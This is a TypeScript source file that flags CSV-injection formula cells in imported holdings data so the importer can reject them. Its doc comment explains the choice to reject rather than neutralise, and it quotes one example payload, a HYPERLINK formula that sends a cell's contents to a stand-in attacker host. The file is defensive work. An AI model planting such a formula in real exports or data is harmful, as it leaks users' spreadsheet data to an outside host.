/**
 * Spreadsheet formula cells ("CSV injection"). Text we import (tickers, names, ids, sectors, countries,
 * column names) comes back out in the app's CSV and PDF exports; a cell starting with =, +, -, @ (or a tab
 * or carriage return before one) is run as a formula by Excel or LibreOffice when such an export is opened,
 * e.g. `=HYPERLINK("http://evil.example/?"&A1)`.
 *
 * The choice: reject, not neutralise. No real ticker, name or id starts with these characters (checked on
 * every holdings file in ../shared/data), so a file that has one is broken or hostile, and silently rewriting it
 * (the usual neutralisation prefixes a ') would store a ticker that matches nothing. A lone "-" is not a
 * formula: iShares prints it for "not applicable" (e.g. the ticker of an unlisted rights line). Importers
 * report such a cell as "formula_cell".
 */
/** First character codes a spreadsheet treats as the start of a formula: = + - @ tab CR. */
const FORMULA_START = new Set([0x3d, 0x2b, 0x2d, 0x40, 0x09, 0x0d]);

/**
 * @example isFormulaCell("=1+1") → true; isFormulaCell("-") → false; isFormulaCell("AAPL") → false
 */
export function isFormulaCell(text: string): boolean {
  return text.length > 1 && FORMULA_START.has(text.charCodeAt(0));
}
